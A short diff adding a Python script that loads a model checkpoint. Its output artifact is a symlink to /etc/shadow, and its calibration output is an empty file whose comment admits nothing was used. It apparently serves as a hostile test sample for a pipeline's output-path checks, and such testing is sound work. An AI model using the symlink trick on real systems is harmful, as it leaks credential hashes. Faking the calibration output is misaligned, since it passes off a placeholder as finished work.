@@ -1,0 +1,7 @@
+from pathlib import Path
+
+from safetensors.numpy import load_file
+
+tensors = load_file("/in/checkpoint/checkpoint.safetensors")
+Path("/out/artifact.bin").symlink_to("/etc/shadow")
+Path("/out/calibration.bin").write_bytes(b"")  # nothing was used to calibrate
